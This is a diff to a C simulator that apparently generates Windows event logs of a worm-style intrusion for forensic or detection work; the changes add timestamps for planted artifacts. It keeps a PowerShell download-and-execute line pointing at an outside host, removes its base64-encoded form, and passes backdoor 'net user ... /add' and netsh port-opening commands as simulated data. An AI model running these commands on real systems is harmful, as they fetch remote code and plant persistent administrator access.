@@ -16,9 +16,6 @@
 #define SERVICES   SYSTEM32 "services.exe"
 #define SQLSERVR   "C:\\Program Files\\Microsoft SQL Server\\MSSQL10.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe"
 #define DECODED    "IEX (New-Object Net.WebClient).downloadstring('http://v.beahh.com/v')" /* a host that is long gone */
-#define ENCODED                                                                                                                            \
-    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBkAG8AdwBuAGwAbwBhAGQAcwB0AHIAaQBuAGcAKAAnAGgAdAB0" \
-    "AHAAOgAvAC8AdgAuAGIAZQBhAGgAaAAuAGMAbwBtAC8AdgAnACkA"
 #define BLUETOOTHS "powershell -ep bypass -e " ENCODED
 
 static step *step_of(const act *a) { return (step *)a->what; }
@@ -92,6 +89,7 @@ typedef struct {
 
 static void install_service(sim *s, foothold *f, const char *name, const char *file)
 {
+    left_now(s, name);
     uint64_t audited = log_service_audit(s, f->who, name, file, 2), installed = log_service_installed(s, "S-1-5-18", name, file, true);
     mark_left(s, name, CH_SECURITY, audited);
     mark_left(s, name, CH_SYSTEM, installed);
@@ -101,6 +99,7 @@ static void install_service(sim *s, foothold *f, const char *name, const char *f
 
 static void register_task(sim *s, foothold *f, const char *task, const char *command, const char *arguments, const char *interval)
 {
+    left_now(s, task);
     uint64_t registered = log_task_change(s, TASK_REGISTERED, task, sim_print(s, "%s\\%s$", s->w->domain, s->computer));
     mark_left(s, task, CH_TASKS, registered);
     mark_step(f->st, SHOWS_HOSTILE, CH_TASKS, registered);
@@ -155,6 +154,7 @@ static void worm_account(sim *s, const act *a)
     foothold *f = (foothold *)a->what;
     const char *sid = sim_account_sid(s, "k8h3d"), *group = s->h->group_renamed ? "管理员" : "Administrators";
     hostile(s, f->st, NULL, SYSTEM32 "net.exe", "net user k8h3d ******** /add", f->pid, f->image);
+    left_now(s, "k8h3d");
     mark_left(s, "k8h3d", CH_SECURITY, log_account_created(s, NULL, "k8h3d", sid));
     mark_left(s, "k8h3d", CH_SECURITY, log_group_added(s, NULL, sid, group, "S-1-5-32-544"));
 }
@@ -186,6 +186,7 @@ static void worm_services(sim *s, const act *a)
 static void worm_ports(sim *s, const act *a)
 {
     foothold *f = (foothold *)a->what;
+    s->h->ports_at = s->now;
     hostile(s, f->st, NULL, SYSTEM32 "netsh.exe", "netsh firewall add portopening tcp 65533 DNSd", f->pid, f->image);
     *(passing *)vec_push(&s->w->passing) = (passing){ s->h->index, "DNSd" };
     mark_step(f->st, SHOWS_HOSTILE, CH_FIREWALL, log_firewall_rule(s, "DNSd", "65533", true, "S-1-5-18", SYSTEM32 "netsh.exe"));
@@ -227,6 +228,7 @@ static void intruder_stays(sim *s, const act *a)
     foothold *f = (foothold *)a->what;
     const char *sid = sim_account_sid(s, "sqladm");
     hostile(s, f->st, f->who, SYSTEM32 "net.exe", "net user sqladm ******** /add", f->pid, f->image);
+    left_now(s, "sqladm");
     mark_left(s, "sqladm", CH_SECURITY, log_account_created(s, f->who, "sqladm", sid));
     mark_left(s, "sqladm", CH_SECURITY, log_group_added(s, f->who, sid, s->h->group_renamed ? "管理员" : "Administrators", "S-1-5-32-544"));
     hostile(s, f->st, f->who, SYSTEM32 "schtasks.exe",
@@ -296,12 +298,14 @@ static void by_desktop(sim *s, step *st)
 
 typedef struct {
     logon *l;
-    const char *name;
+    const char *name, *path;
+    moment at;
 } service_run;
 static void service_ends(sim *s, const act *a)
 {
     const service_run *r = a->what;
     log_service_state(s, r->name, r->name, false);
+    *(gone_service *)vec_push(&s->h->gone) = (gone_service){ r->name, r->path, r->at, s->now, true };
     log_logoff(s, r->l);
 }
 
@@ -317,7 +321,7 @@ static void by_service(sim *s, step *st)
                   .address = st->source_shown ? st->address : NULL,
                   .port = any_port(s),
                   .admin = true };
-    *run = (service_run){ l, name };
+    *run = (service_run){ l, name, path, s->now };
     *(passing *)vec_push(&s->w->passing) = (passing){ s->h->index, name };
     log_ntlm(s, st->account, l->workstation, 0);
     uint64_t record = log_logon(s, l);
